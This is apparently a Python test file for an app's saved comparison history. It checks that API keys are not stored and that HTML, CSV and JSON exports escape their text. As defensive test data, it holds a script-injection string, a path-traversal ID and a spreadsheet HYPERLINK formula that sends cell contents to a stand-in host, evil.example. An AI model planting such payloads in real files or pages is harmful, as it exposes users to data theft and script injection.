"""Comparison history: saved without keys, reloaded as it was, exported with all text escaped."""

from __future__ import annotations

import csv
import io
import json

import pytest

from graphs.result import PipelineResult
from triptych.documents.chunking import Chunk
from triptych.history import list_history, load_comparison, save_comparison, to_csv, to_html, to_json
from triptych.settings import Settings

EVIL = "<script>alert('x')</script> & **bold**"


def results() -> dict[str, PipelineResult]:
    src = Chunk("c1", "leave.md", "leave.md", "Leave <policy>", EVIL, 0, 10, 0.8, page=3, n=1)
    return {
        "prompt": PipelineResult("prompt", "Prompt", answer=EVIL, model="m", ttft_s=0.1, total_s=0.5),
        "rag": PipelineResult("rag", "RAG", answer="25 days [1]", sources=[src], prompt_tokens=9, completion_tokens=3),
        "finetuned": PipelineResult("finetuned", "Fine-tuned", error="cannot reach <endpoint>"),
    }


def test_saved_comparisons_reload_and_hold_no_keys(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-value")
    settings = Settings(_env_file=None, data_dir=tmp_path, prompt={"model": "openai/gpt-4o-mini"})  # type: ignore[call-arg]
    record = save_comparison(settings, "How long?", "hr", results())
    raw = (tmp_path / "history" / f"{record.id}.json").read_text()
    assert "sk-secret-value" not in raw
    assert json.loads(raw)["settings"]["prompt"]["model"] == "openai/gpt-4o-mini"
    again = load_comparison(settings, record.id)
    assert again.results["rag"].sources[0].page == 3 and again.results == record.results
    assert [r.id for r in list_history(settings)] == [record.id]


def test_exports_escape_every_text(tmp_path) -> None:
    settings = Settings(_env_file=None, data_dir=tmp_path)  # type: ignore[call-arg]
    record = save_comparison(settings, "Q <b>?</b>", "hr", results())
    page = to_html([record])
    assert "<script>" not in page and "&lt;script&gt;" in page and "&lt;b&gt;?&lt;/b&gt;" in page
    assert "cannot reach &lt;endpoint&gt;" in page
    rows = list(csv.DictReader(io.StringIO(to_csv([record]))))
    assert [r["pipeline"] for r in rows] == ["prompt", "rag", "finetuned"]
    assert rows[1]["sources"] == "[1] leave.md p.3" and rows[2]["error"] == "cannot reach <endpoint>"
    assert json.loads(to_json([record]))[0]["question"] == "Q <b>?</b>"


def test_comparisons_saved_under_the_earlier_id_format_still_load(tmp_path) -> None:
    settings = Settings(_env_file=None, data_dir=tmp_path)  # type: ignore[call-arg]
    new = save_comparison(settings, "new?", "hr", results())
    old = new.to_dict() | {"id": "20200101T000000Z-0a1b2c3d", "question": "old?"}
    (tmp_path / "history" / f"{old['id']}.json").write_text(json.dumps(old))
    assert load_comparison(settings, old["id"]).question == "old?"
    assert [r.question for r in list_history(settings)] == ["new?", "old?"]
    with pytest.raises(FileNotFoundError):
        load_comparison(settings, "../history/x")


def test_csv_export_neutralises_formulas(tmp_path) -> None:
    from triptych.history import csv_cell

    settings = Settings(_env_file=None, data_dir=tmp_path)  # type: ignore[call-arg]
    planted = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    results = {
        "prompt": PipelineResult(pipeline="prompt", label="Prompt", answer=planted),
        "rag": PipelineResult(pipeline="rag", label="RAG", answer="25 days [1]", error="-1 is not a valid port"),
    }
    record = save_comparison(settings, "@SUM(A1:A9)", "hr", results)
    rows = list(csv.DictReader(io.StringIO(to_csv([record]))))
    assert rows[0]["answer"] == "'" + planted
    assert rows[0]["question"] == "'@SUM(A1:A9)"
    assert rows[1]["answer"] == "25 days [1]" and rows[1]["error"] == "'-1 is not a valid port"
    assert [csv_cell(v) for v in ("+1", "\tx", "\rx", "plain", 3)] == ["'+1", "'\tx", "'\rx", "plain", 3]
